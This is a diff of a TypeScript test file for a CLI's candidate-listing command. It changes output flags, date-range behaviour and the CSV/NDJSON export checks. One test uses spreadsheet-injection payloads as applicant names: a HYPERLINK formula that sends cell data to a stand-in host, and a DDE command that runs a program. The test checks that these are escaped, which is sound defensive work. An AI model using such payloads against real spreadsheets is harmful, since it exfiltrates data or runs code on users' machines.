@@ -28,7 +28,7 @@ beforeAll(async () => {
 const list = (...args: string[]) =>
   runCommand(['candidates', 'list', ...args], { env: environmentFor(server, company) })
 const listIds = async (...args: string[]) =>
-  JSON.parse((await list('--json', ...args)).stdout).candidates.map(({ id }: { id: string }) => id)
+  JSON.parse((await list('-o', 'json', ...args)).stdout).candidates.map(({ id }: { id: string }) => id)
 
 describe('candidates list', () => {
   test('gives the candidates of all jobs or of one, in the order of their dates, between the dates that are given', async () => {
@@ -36,9 +36,9 @@ describe('candidates list', () => {
     expect(await listIds()).toEqual([salma?.id, amina?.id, zoe?.id])
     expect(await listIds('A/1')).toEqual([salma?.id, amina?.id])
     expect(await listIds('--limit', '2')).toEqual([salma?.id, amina?.id])
-    // --since excludes its instant, --from and --to include theirs.
+    // --since excludes its instant, --to includes its own.
     expect(await listIds('--since', salma?.date ?? '')).toEqual([amina?.id, zoe?.id])
-    expect(await listIds('--from', salma?.date ?? '', '--to', amina?.date ?? '')).toEqual([salma?.id, amina?.id])
+    expect(await listIds('--since', salma?.date ?? '', '--to', amina?.date ?? '')).toEqual([amina?.id])
   })
 
   test('a table has four columns, CSV and NDJSON have all fields', async () => {
@@ -54,7 +54,7 @@ describe('candidates list', () => {
     expect(rows.map((row) => JSON.parse(row).firstName)).toEqual(['Salma', 'أمينة', 'Zoë 🦊'])
   })
 
-  test('CSV holds no formula that an applicant wrote; raw CSV holds every text as it was written', async () => {
+  test('CSV holds no formula that an applicant wrote; NDJSON holds every text as it was written', async () => {
     const { jobUrl } = (await company.call('PUT', '/job/csv', { job: { title: 'csv' } })).body
     const firstName = '=HYPERLINK("http://evil.test/?"&B2;"open")'
     const lastName = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -63,16 +63,14 @@ describe('candidates list', () => {
     expect(safe).toContain(`,"'=HYPERLINK(""http://evil.test/?""&B2;""open"")",'${lastName},`)
     expect(safe).toContain(",'+212 600 000 000,")
     expect(safe).toContain(",Bonjour;'=1+1,")
-    const raw = (await list('csv', '-o', 'raw-csv')).stdout
-    expect(raw).toContain(`,"=HYPERLINK(""http://evil.test/?""&B2;""open"")",${lastName},`)
-    expect(raw).toContain(',+212 600 000 000,')
-    expect(raw).toContain(',Bonjour;=1+1,')
+    const written = JSON.parse((await list('csv', '-o', 'ndjson')).stdout)
+    expect(written).toMatchObject({ firstName, lastName, phone: '+212 600 000 000', message: 'Bonjour;=1+1' })
   })
 
   test('refuses a wrong date with 2, and an unknown job with 1', async () => {
     const wrong = await list('--since', '2026-02-30')
     expect(wrong).toMatchObject({ code: 2, stderr: expect.stringContaining('ISO 8601 expected') })
-    const job = await list('nope', '--json')
+    const job = await list('nope', '-o', 'json')
     expect(job).toMatchObject({ code: 1, stdout: expect.stringContaining('nope is not associated with any job') })
   })
 
@@ -89,7 +87,7 @@ describe('candidates list', () => {
       [amina?.id, 'erased', 'A/1'],
     ])
     const [, next = ''] = /^For the next changes, give --changed-since (\S+)\n$/.exec(table.stderr) ?? []
-    const { candidates, changedThrough } = JSON.parse((await list('--changed-since', next, '--json')).stdout)
+    const { candidates, changedThrough } = JSON.parse((await list('--changed-since', next, '-o', 'json')).stdout)
     expect(candidates.map(({ id }: { id: string }) => id)).toEqual([salma?.id, amina?.id])
     expect(changedThrough >= next).toBe(true)
     expect((await list('--changed-since', '2026-01-01', '--since', '2026-01-01')).code).toBe(2)
